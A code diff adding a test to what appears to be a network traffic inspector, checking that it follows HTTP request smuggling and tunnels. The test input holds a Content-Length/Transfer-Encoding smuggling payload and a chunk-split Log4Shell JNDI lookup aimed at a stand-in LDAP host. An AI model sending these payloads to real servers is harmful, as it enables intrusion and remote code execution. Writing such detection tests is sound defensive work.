@@ -481,6 +481,27 @@ static void what_a_tunnel_carries_is_decoded(void)
     CU_ASSERT_EQUAL(count("\"field\":\"smtp.helo\""), 1);
 }
 
+/* Two readings of a request; for the one CONNECT follows, for the other (Content-Length) a body of
+ * 49 bytes that holds the CONNECT and the tunnel's first line, then a request with a look-up that
+ * only chunks put together. */
+static void other_readings_go_on_behind_a_hand_over(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER,
+         "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
+         "31\r\n"
+         "POST /s HTTP/1.1\r\nHost: a\r\nContent-Length: 49\r\n\r\n"
+         "\r\n0\r\n\r\nCONNECT b:25 HTTP/1.1\r\nHost: b\r\n\r\n");
+    give(&s, TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\r\n\r\n220 b ESMTP\r\n");
+    give(&s, TO_SERVER,
+         "EHLO x\r\nPOST /y HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
+         "5\r\n${jnd\r\n17\r\ni:ldap://203.0.113.9/a}\r\n0\r\n\r\n");
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"event_type\":\"smtp\""), 1);
+    CU_ASSERT_EQUAL(count("\"field\":\"http.request_body\""), 1);
+}
+
 static void a_proxy_header_is_passed_and_its_client_told(void)
 {
     struct scene s;
@@ -653,6 +674,7 @@ static CU_TestInfo tests[] = {
     {"a_first_line_in_single_bytes_is_still_recognised",
      a_first_line_in_single_bytes_is_still_recognised},
     {"what_a_tunnel_carries_is_decoded", what_a_tunnel_carries_is_decoded},
+    {"other_readings_go_on_behind_a_hand_over", other_readings_go_on_behind_a_hand_over},
     {"a_proxy_header_is_passed_and_its_client_told", a_proxy_header_is_passed_and_its_client_told},
     {"an_upgrade_to_http2_is_followed", an_upgrade_to_http2_is_followed},
     {"uploads_and_attachments_are_files", uploads_and_attachments_are_files},
